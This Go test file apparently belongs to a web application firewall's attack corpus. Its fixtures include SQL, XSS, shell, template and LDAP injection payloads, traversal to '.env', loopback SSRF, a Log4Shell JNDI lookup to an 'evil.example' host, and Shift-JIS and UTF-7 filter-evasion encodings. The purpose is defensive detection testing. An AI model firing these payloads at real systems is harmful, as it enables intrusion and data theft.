package prove

import (
	"strings"
	"testing"

	"noren/gateway/waf/corpus"
)

// What the weak programs run as something else, and what only looks so.
func TestPrograms(t *testing.T) {
	for _, tt := range []struct {
		class   corpus.Class
		context string
		value   string
		works   bool
	}{
		{corpus.SQL, "string", "' OR '1'='1", true},
		{corpus.SQL, "string", "O'Brien", false},
		{corpus.SQL, "string", "ロゴの'&'が剥げた", false},
		{corpus.SQL, "string", "select * from users", false},
		{corpus.SQL, "number", "12", false},
		{corpus.SQL, "number", "1 OR 1=1", true},
		{corpus.SQL, "order", "price DESC", false},
		{corpus.XSS, "text", "<限定>セット", false},
		{corpus.XSS, "text", "<b>太字</b>", false},
		{corpus.XSS, "text", "<b onclick=alert(1)>", true},
		{corpus.XSS, "text", "<img src=x onerror=これは>", false},
		{corpus.XSS, "href", "https://shop.example/", false},
		{corpus.XSS, "href", "java\tscript:alert(1)", true},
		{corpus.XSS, "script", `";alert(1)//`, true},
		{corpus.XSS, "script", `10" モニター`, false},
		{corpus.Shell, "double", "`A`と`B`", false},
		{corpus.Shell, "double", "$(id)", true},
		{corpus.Shell, "bare", "a;b", false},
		{corpus.Shell, "bare", ";c'a't /etc/passwd;", true},
		{corpus.Traversal, "join", "../ではなく上の階へ", false},
		{corpus.Traversal, "join", "../../.env", true},
		{corpus.Traversal, "filtered", "../../.env", false},
		{corpus.SSRF, "fetch", "https://www.example.co.jp/", false},
		{corpus.SSRF, "fetch", "http://8.8.8.8/", false},
		{corpus.SSRF, "fetch", "http://0x7f.1/", true},
		{corpus.SSRF, "fetch", "http://127.0.0.1:80@example.com/", false},
		{corpus.SSTI, "render", "{{name}} 様", false},
		{corpus.SSTI, "render", "{{7*7}}", true},
		{corpus.NoSQL, "object", `{"size":"L"}`, false},
		{corpus.NoSQL, "object", `{"$ne":1}`, true},
		{corpus.LDAP, "and", "山田(本人)", false},
		{corpus.LDAP, "and", "*)(uid=*", true},
		{corpus.XPath, "predicate", "O'Brien", false},
		{corpus.XPath, "predicate", "' or '1'='1", true},
		{corpus.XXE, "parse", "<!DOCTYPE html><a>1</a>", false},
		{corpus.MailHeader, "subject", "見積依頼\r\n 続き", false},
		{corpus.MailHeader, "subject", "x\nBcc: a@evil.example", true},
		{corpus.Deserialise, "php", `a:1:{i:0;s:1:"a";}`, false},
		{corpus.Deserialise, "php", `O:1:"A":0:{}`, true},
		{corpus.Prototype, "bracket", "options[size]=L", false},
		{corpus.Prototype, "bracket", "__proto__[a]=1", true},
		{corpus.JNDI, "log", "${customer_name} 様", false},
		{corpus.JNDI, "log", "${${lower:j}ndi:ldap://evil.example/a}", true},
		{corpus.GraphQL, "query", `{"query":"{ product(id: 1) { name } }"}`, false},
		{corpus.PHP, "file", "<?xml version=\"1.0\"?>", false},
		{corpus.PHP, "file", "<?php echo から始まる本", false},
		{corpus.PHP, "file", "<?php phpinfo();", true},
	} {
		p := programs(tt.class)[tt.context]
		if p == nil {
			t.Fatalf("%s has no %q", tt.class, tt.context)
		}
		if how, err := p(tt.value); (err == nil) != tt.works {
			t.Errorf("%s in %q: %q works: %v (%s, %v)", tt.class, tt.context, tt.value, err == nil, how, err)
		}
	}
}

// The bytes that old shops misread.
func TestUndress(t *testing.T) {
	for _, tt := range []struct {
		trick   string
		charset corpus.Charset
		in      string
		want    string
	}{
		{"sjis trail", corpus.ShiftJIS, "\x95' OR 1", "表' OR 1"},
		{"sjis unescape", corpus.ShiftJIS, "\x83\x5c' OR 1", `ソ\\' OR 1`},
		{"euc lead", corpus.EUCJP, "\xa1' OR 1", "〓' OR 1"},
		{"full-width", corpus.UTF8, "＜ｂ＞　'", "<b> '"},
		{"overlong", corpus.UTF8, "\xc0\xbcb\xe0\x80\xbe", "<b>"},
		{"%u", corpus.UTF8, "%u003cb%u003e%", "<b>%"},
		{"utf-7", corpus.UTF8, "+ADw-b+AD4-+-", "<b>+"},
		{"json", corpus.UTF8, `"\u003cb\u003e"`, "<b>"},
		{"seven bits", corpus.UTF8, "\xbcb\xbe", "<b>"},
		{"iso-2022-jp", corpus.UTF8, "\x1b(J\"x", "¥\"x"},
		{"utf-16", corpus.UTF8, "\xfe\xff\x00<\x00a", "<a"},
	} {
		got, err := undress(&corpus.Line{Class: corpus.XSS, Trick: tt.trick, Charset: tt.charset, Text: tt.in})
		if err != nil || got != tt.want {
			t.Errorf("%s: %q becomes %q, want %q: %v", tt.trick, tt.in, got, tt.want, err)
		}
	}
}

// Seeds without a dress stay as they were written.
func TestSeedsTravelInTheirPlaces(t *testing.T) {
	seeds, err := Seeds()
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range seeds {
		for _, r := range l.Requests() {
			if r.Place == corpus.InAgent && strings.ContainsAny(l.Text, "\r\n\x00") {
				t.Errorf("%q cannot be a header", l.Text)
			}
		}
	}
}

// FuzzPrograms holds that no text upsets a program: it works or it does not.
func FuzzPrograms(f *testing.F) {
	f.Add("' OR 1=1--")
	f.Add("$(`\"${x:-'\\")
	f.Add("{{7*7}}<!--]]>\x00\xff")
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) > 4<<10 {
			return
		}
		for _, c := range corpus.Classes() {
			for _, p := range programs(c) {
				_, _ = p(text)
			}
		}
		for _, trick := range []string{"sjis trail", "euc lead", "full-width", "overlong", "%u", "utf-7", "json", "seven bits", "iso-2022-jp", "utf-16", "entities", "double"} {
			_, _ = undress(&corpus.Line{Class: corpus.XSS, Trick: trick, Charset: corpus.ShiftJIS, Text: text})
		}
	})
}
